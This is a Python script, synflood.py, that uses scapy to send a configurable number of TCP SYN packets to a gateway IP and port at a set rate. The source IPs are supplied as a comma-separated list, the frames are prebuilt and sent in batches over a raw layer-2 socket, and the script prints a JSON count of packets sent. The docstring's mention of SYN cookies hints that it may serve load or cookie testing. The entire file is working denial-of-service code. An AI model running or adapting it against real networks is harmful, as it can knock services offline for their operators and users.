#!/usr/bin/python3
"""synflood.py IFACE GW_MAC GW_IP SRC_IPS DPORT COUNT RATE - a SYN flood:
COUNT SYNs to GW_IP:DPORT from the comma-separated SRC_IPS (round robin)
and source ports 10000..29999, each 4-tuple once, at about RATE per second,
all on one L2 socket. The SYNs offer MSS 1460, SACK, timestamps and window
scale 7, as Linux does, so the gateway's cookies carry options. The frames
are built once from a scapy template (ports, sequence numbers and checksums
patched in), then sent in batches: scapy's per-packet build would be the
bottleneck. Prints {"sent": N, "seconds": S} as JSON.
"""
import json
import random
import struct
import sys
import time

from scapy.all import IP, TCP, Ether, conf  # noqa: E402

SPORT_MIN, SPORT_N = 10000, 20000
BATCH = 200


def csum(b):
    if len(b) & 1:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def frames(src_mac, gw_mac, gw_ip, srcs, dport, count, rng):
    """Yields COUNT ready frames."""
    tpl = {}
    for src in srcs:
        p = (Ether(src=src_mac, dst=gw_mac) / IP(src=src, dst=gw_ip, ttl=64, flags="DF") /
             TCP(sport=SPORT_MIN, dport=dport, flags="S", window=64240,
                 options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (1, 0)),
                          ("NOP", None), ("WScale", 7)]))
        tpl[src] = bytearray(bytes(p))
    ip_off, tcp_off = 14, 34
    ts_off = tcp_off + 20 + 4 + 2 + 2  # after MSS and SAckOK: kind 8, length 10, TSval
    assert tpl[srcs[0]][ts_off - 2:ts_off] == b"\x08\x0a", "unexpected option layout"
    for i in range(count):
        src = srcs[i % len(srcs)]
        f = bytearray(tpl[src])
        sport = SPORT_MIN + (i // len(srcs)) % SPORT_N
        struct.pack_into("!HHI", f, tcp_off, sport, dport, rng.getrandbits(32))
        struct.pack_into("!I", f, ts_off, rng.getrandbits(32))  # TSval
        f[tcp_off + 16:tcp_off + 18] = b"\0\0"
        seg = bytes(f[tcp_off:])
        pseudo = bytes(f[ip_off + 12:ip_off + 20]) + struct.pack("!BBH", 0, 6, len(seg))
        struct.pack_into("!H", f, tcp_off + 16, csum(pseudo + seg))
        yield bytes(f)


def main():
    if len(sys.argv) != 8:
        print(__doc__, file=sys.stderr)
        return 2
    iface, gw_mac, gw_ip, srcs, dport, count, rate = sys.argv[1:]
    srcs, dport, count, rate = srcs.split(","), int(dport), int(count), float(rate)
    conf.verb = 0
    src_mac = open(f"/sys/class/net/{iface}/address").read().strip()
    all_frames = list(frames(src_mac, gw_mac, gw_ip, srcs, dport, count, random.Random(7)))
    sock = conf.L2socket(iface=iface)
    t0 = time.monotonic()
    sent = 0
    try:
        for k in range(0, count, BATCH):
            for f in all_frames[k:k + BATCH]:
                sock.send(f)
                sent += 1
            ahead = t0 + sent / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    finally:
        sock.close()
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - t0, 3)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
